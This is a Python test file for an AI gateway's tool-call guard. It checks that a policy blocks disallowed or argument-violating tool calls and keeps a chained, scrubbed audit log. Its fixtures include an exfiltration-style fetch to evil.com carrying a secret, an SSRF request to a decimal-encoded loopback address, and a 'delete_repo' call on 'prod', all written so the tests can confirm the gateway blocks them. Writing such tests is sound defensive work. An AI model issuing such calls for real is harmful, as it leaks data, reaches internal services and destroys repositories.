"""Tool guards end to end: the real simulator emits allowed, disallowed and
argument-violating tool calls, streamed (at every chunk size) and not, through a gateway
deciding with the real Rego policy, to the real openai client; and the decision log it
keeps."""

from __future__ import annotations

import json
import shutil
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import openai
import orjson
import pytest

from adapters.audit.jsonl import verify_file
from simulator import RunningSimulator
from tests.harness import eventually, openai_error, openai_upstream, recorded
from tests.servers import OTHER_TENANT_KEY, TEST_KEY, RunningGateway, gateway_config, running_gateway

REPO = Path(__file__).parents[2]
POLICY_DATA = """
defaults:
  on_tool_violation: reject
  redact: {request: "off", response: "off", entities: []}
  limits: {max_tokens: 4096, tool_output_max_chars: 40}
  soft_budget_max_tokens: 1024
data_classes: {}
tenants:
  alpha:
    models: ["*"]
    tools: ["search", "fetch_url"]
    on_tool_violation: strip
    tool_args:
      fetch_url:
        url: {allowed_hosts: ["*.example.com"], allowed_schemes: ["https"]}
  beta:
    models: ["*"]
    tools: ["search"]
"""
TOOLS: Any = [
    {"type": "function", "function": {"name": name, "parameters": {"type": "object"}}}
    for name in ("search", "fetch_url")
]
SEARCH = {"id": "call_search", "name": "search", "arguments": {"q": "tollgate", "n": 3}}
GOOD = {"id": "call_good", "name": "fetch_url", "arguments": {"url": "https://docs.example.com/a?b=1"}}
BAD = {"id": "call_bad", "name": "fetch_url", "arguments": {"url": "https://evil.com/x?secret=hunter2"}}
SSRF = {"id": "call_ssrf", "name": "fetch_url", "arguments": {"url": "https://2130706433/admin"}}
FORBIDDEN = {"id": "call_forbidden", "name": "delete_repo", "arguments": {"name": "prod"}}
MIXED = [SEARCH, BAD, GOOD, FORBIDDEN, SSRF]
LONGEST = max(len(json.dumps(c["arguments"])) for c in MIXED)
NOTES = [
    "[tollgate] tool call 'fetch_url' blocked by policy: argument 'url': host 'evil.com' is not allowed",
    "[tollgate] tool call 'delete_repo' blocked by policy: the tool is not allowed",
    "[tollgate] tool call 'fetch_url' blocked by policy: argument 'url': address 127.0.0.1 is not public",
]


def _policy_dir(tmp: Path) -> Path:
    directory = tmp / "policies"
    directory.mkdir()
    shutil.copy(REPO / "policies" / "authz.rego", directory / "authz.rego")
    (directory / "data.yaml").write_text(POLICY_DATA)
    return directory


def _config(sim: RunningSimulator, tmp: Path, audit: dict[str, Any]) -> Any:
    return gateway_config(
        upstreams={"local": openai_upstream(sim.openai_base_url(0))},
        models={"chat": [{"upstream": "local", "model": "sim-model"}]},
        policy={"dir": str(_policy_dir(tmp))},
        audit=audit,
    )


@pytest.fixture(scope="module")
def audit_log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("audit") / "audit.jsonl"


@pytest.fixture(scope="module")
def guarded(
    upstream_sim: RunningSimulator, tmp_path_factory: pytest.TempPathFactory, audit_log: Path
) -> Iterator[RunningGateway]:
    config = _config(
        upstream_sim, tmp_path_factory.mktemp("guarded"), {"path": str(audit_log), "fsync": "never"}
    )
    with running_gateway(config) as running:
        yield running


@pytest.fixture(scope="module")
def oai(guarded: RunningGateway) -> Iterator[openai.OpenAI]:
    with openai.OpenAI(base_url=guarded.base_url, api_key=TEST_KEY, max_retries=0) as client:
        yield client


def _x_sim(calls: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
    return {"x_sim": {"tool_calls": calls, **extra}}


def _accumulate(chunks: list[Any]) -> tuple[list[dict[str, str]], str, list[str]]:
    calls: list[dict[str, str]] = []
    content, finish = "", []
    for chunk in chunks:
        for choice in chunk.choices:
            content += choice.delta.content or ""
            for delta in choice.delta.tool_calls or ():
                assert delta.index <= len(calls)
                if delta.index == len(calls):
                    calls.append({"id": "", "name": "", "arguments": ""})
                calls[delta.index]["id"] += delta.id or ""
                calls[delta.index]["name"] += delta.function.name or ""
                calls[delta.index]["arguments"] += delta.function.arguments or ""
            if choice.finish_reason:
                finish.append(choice.finish_reason)
    return calls, content, finish


@pytest.mark.parametrize("chunk_chars", range(1, LONGEST + 2))
def test_streamed_calls_are_guarded_at_every_chunk_size(
    oai: openai.OpenAI, upstream: RunningSimulator, chunk_chars: int
) -> None:
    stream = oai.chat.completions.create(
        model="chat",
        messages=[{"role": "user", "content": "go"}],
        tools=TOOLS,
        stream=True,
        extra_body=_x_sim(MIXED, chunk_chars=chunk_chars),
    )
    calls, content, finish = _accumulate(list(stream))
    assert calls == [
        {
            "id": "call_search",
            "name": "search",
            "arguments": json.dumps(SEARCH["arguments"], separators=(",", ":")),
        },
        {
            "id": "call_good",
            "name": "fetch_url",
            "arguments": json.dumps(GOOD["arguments"], separators=(",", ":")),
        },
    ]
    assert content.strip().split("\n") == NOTES
    assert finish == ["tool_calls"]


def test_the_openai_stream_helper_accumulates_a_guarded_stream(
    oai: openai.OpenAI, upstream: RunningSimulator
) -> None:
    with oai.chat.completions.stream(
        model="chat",
        messages=[{"role": "user", "content": "go"}],
        tools=TOOLS,
        extra_body=_x_sim(MIXED, chunk_chars=3),
    ) as stream:
        completion = stream.get_final_completion()
    [choice] = completion.choices
    assert [(c.id, c.function.name) for c in choice.message.tool_calls or ()] == [
        ("call_search", "search"),
        ("call_good", "fetch_url"),
    ]
    assert json.loads((choice.message.tool_calls or [])[1].function.arguments) == GOOD["arguments"]
    assert choice.finish_reason == "tool_calls"


@pytest.mark.parametrize(
    "calls", [[BAD], [FORBIDDEN], [SSRF, FORBIDDEN]], ids=["bad-args", "forbidden", "both"]
)
@pytest.mark.parametrize("chunk_chars", [1, 5, 100])
def test_a_stream_whose_every_call_is_blocked_ends_with_content_filter(
    oai: openai.OpenAI, upstream: RunningSimulator, calls: list[dict[str, Any]], chunk_chars: int
) -> None:
    stream = oai.chat.completions.create(
        model="chat",
        messages=[{"role": "user", "content": "go"}],
        tools=TOOLS,
        stream=True,
        extra_body=_x_sim(calls, chunk_chars=chunk_chars, tool_reply="Fetching it now."),
    )
    got, content, finish = _accumulate(list(stream))
    assert got == []
    assert finish == ["content_filter"]
    assert content.startswith("Fetching it now.\n[tollgate] tool call")
    assert content.count("[tollgate]") == len(calls)
    assert "hunter2" not in content


def test_non_streamed_calls_are_guarded(oai: openai.OpenAI, upstream: RunningSimulator) -> None:
    completion = oai.chat.completions.create(
        model="chat", messages=[{"role": "user", "content": "go"}], tools=TOOLS, extra_body=_x_sim(MIXED)
    )
    [choice] = completion.choices
    assert [c.id for c in choice.message.tool_calls or ()] == ["call_search", "call_good"]
    assert choice.finish_reason == "tool_calls"
    assert (choice.message.content or "").split("\n") == NOTES


async def test_non_streamed_with_every_call_blocked_async(
    guarded: RunningGateway, upstream: RunningSimulator
) -> None:
    async with openai.AsyncOpenAI(base_url=guarded.base_url, api_key=TEST_KEY, max_retries=0) as client:
        completion = await client.chat.completions.create(
            model="chat",
            messages=[{"role": "user", "content": "go"}],
            tools=TOOLS,
            extra_body=_x_sim([BAD, FORBIDDEN]),
        )
    [choice] = completion.choices
    assert choice.message.tool_calls is None
    assert choice.finish_reason == "content_filter"
    assert (choice.message.content or "").count("[tollgate]") == 2


def test_offered_tools_not_allowed_are_stripped(
    oai: openai.OpenAI, upstream: RunningSimulator, request_id: str
) -> None:
    shell: Any = {"type": "function", "function": {"name": "shell", "parameters": {"type": "object"}}}
    oai.chat.completions.create(
        model="chat",
        messages=[{"role": "user", "content": "hi"}],
        tools=[*TOOLS, shell],
        extra_headers={"x-request-id": request_id},
    )
    [sent] = recorded(upstream, request_id)
    assert [t["function"]["name"] for t in sent.body["tools"]] == ["search", "fetch_url"]


def test_a_tool_choice_naming_a_disallowed_tool_is_refused(
    guarded: RunningGateway, upstream: RunningSimulator, request_id: str
) -> None:
    body = {
        "model": "chat",
        "messages": [{"role": "user", "content": "hi"}],
        "tools": TOOLS,
        "tool_choice": {"type": "function", "function": {"name": "shell"}},
    }
    response = httpx.post(
        f"{guarded.base_url}/chat/completions",
        json=body,
        headers={"authorization": f"Bearer {TEST_KEY}", "x-request-id": request_id},
    )
    error = openai_error(response, 403)
    assert error["code"] == "tool_not_allowed"
    assert error["message"] == "Tools not allowed by policy: 'shell'."
    assert error["param"] == "tool_choice"
    assert recorded(upstream, request_id) == []


def test_a_tenant_that_rejects_disallowed_tools_is_refused_naming_them(
    guarded: RunningGateway, upstream: RunningSimulator, request_id: str
) -> None:
    with (
        openai.OpenAI(base_url=guarded.base_url, api_key=OTHER_TENANT_KEY, max_retries=0) as client,
        pytest.raises(openai.PermissionDeniedError) as caught,
    ):
        client.chat.completions.create(
            model="chat",
            messages=[{"role": "user", "content": "hi"}],
            tools=TOOLS,
            extra_headers={"x-request-id": request_id},
        )
    assert caught.value.code == "tool_not_allowed"
    assert caught.value.message.endswith("Tools not allowed by policy: 'fetch_url'.")
    assert recorded(upstream, request_id) == []


def test_long_tool_outputs_reach_the_upstream_truncated(
    oai: openai.OpenAI, upstream: RunningSimulator, request_id: str
) -> None:
    messages: Any = [
        {"role": "user", "content": "fetch it"},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {"id": "c1", "type": "function", "function": {"name": "search", "arguments": "{}"}}
            ],
        },
        {"role": "tool", "tool_call_id": "c1", "content": "r" * 100},
    ]
    oai.chat.completions.create(
        model="chat", messages=messages, tools=TOOLS, extra_headers={"x-request-id": request_id}
    )
    [sent] = recorded(upstream, request_id)
    assert (
        sent.body["messages"][2]["content"]
        == "r" * 40 + "\n[tollgate: tool output truncated from 100 to 40 characters]"
    )


def _log_records(path: Path) -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in path.read_bytes().splitlines()] if path.exists() else []


def test_each_decision_and_completion_is_logged_and_chained(
    oai: openai.OpenAI, upstream: RunningSimulator, audit_log: Path, request_id: str
) -> None:
    secret = f"private-{uuid.uuid4().hex}"
    oai.chat.completions.create(
        model="chat",
        messages=[{"role": "user", "content": secret}],
        tools=TOOLS,
        extra_body=_x_sim([SEARCH, FORBIDDEN]),
        extra_headers={"x-request-id": request_id},
    )

    def mine() -> list[dict[str, Any]]:
        return [r for r in _log_records(audit_log) if r.get("request_id") == request_id]

    assert eventually(lambda: len(mine()) == 2)
    decision, completion = mine()
    assert decision["type"] == "decision"
    assert decision["v"] == 1
    assert decision["tenant"] == "alpha"
    assert decision["allow"] is True
    assert isinstance(decision["latency_ms"], float | int)
    assert decision["cached"] in (True, False)
    assert completion["type"] == "completion"
    assert completion["status"] == 200
    assert completion["tool_calls_blocked"] == 1
    assert completion["seq"] > decision["seq"]
    assert secret not in audit_log.read_text()
    assert verify_file(audit_log).ok


def test_a_mandatory_log_that_cannot_be_written_refuses_the_request(
    upstream_sim: RunningSimulator, tmp_path: Path, request_id: str
) -> None:
    unwritable = tmp_path / "a-directory"
    unwritable.mkdir()
    config = _config(
        upstream_sim, tmp_path, {"path": str(unwritable), "mandatory": True, "write_timeout_s": 5}
    )
    with running_gateway(config) as gateway, httpx.Client(base_url=gateway.url) as http:
        response = http.post(
            "/v1/chat/completions",
            json={"model": "chat", "messages": [{"role": "user", "content": "hi"}]},
            headers={"authorization": f"Bearer {TEST_KEY}", "x-request-id": request_id},
        )
    error = openai_error(response, 503)
    assert error["code"] == "audit_unavailable"
    assert recorded(upstream_sim, request_id) == []


def test_the_redis_stream_log_is_chained(
    upstream_sim: RunningSimulator, tmp_path: Path, request_id: str
) -> None:
    import asyncio

    from redis import Redis

    from adapters.audit.redis_stream import read_stream, verify_stream

    url, stream = "redis://127.0.0.1:6379/0", f"test:audit:{uuid.uuid4().hex}"
    config = _config(
        upstream_sim, tmp_path, {"sink": "redis", "redis_url": url, "stream": stream, "mandatory": True}
    )
    try:
        with (
            running_gateway(config) as gateway,
            openai.OpenAI(base_url=gateway.base_url, api_key=TEST_KEY, max_retries=0) as client,
        ):
            for _ in range(3):
                client.chat.completions.create(model="chat", messages=[{"role": "user", "content": "hi"}])
        records = [orjson.loads(r) for r in asyncio.run(read_stream(url, stream))]
        assert [r["type"] for r in records] == ["decision", "completion"] * 3
        assert asyncio.run(verify_stream(url, stream)).ok
    finally:
        client_ = Redis.from_url(url)
        client_.delete(stream)
        client_.close()


def test_records_are_scrubbed_before_they_are_written(
    oai: openai.OpenAI, upstream: RunningSimulator, audit_log: Path, request_id: str
) -> None:
    email = f"leak.{uuid.uuid4().hex[:8]}@example.com"
    odd: Any = {"type": "function", "function": {"name": email, "parameters": {"type": "object"}}}
    oai.chat.completions.create(
        model="chat",
        messages=[{"role": "user", "content": "hi"}],
        tools=[*TOOLS, odd],
        extra_headers={"x-request-id": request_id},
    )

    def decision() -> list[dict[str, Any]]:
        return [
            r
            for r in _log_records(audit_log)
            if r.get("request_id") == request_id and r["type"] == "decision"
        ]

    assert eventually(lambda: len(decision()) == 1)
    assert "[EMAIL]" in decision()[0]["input"]["tools"]
    assert email not in audit_log.read_text()
    assert verify_file(audit_log).ok
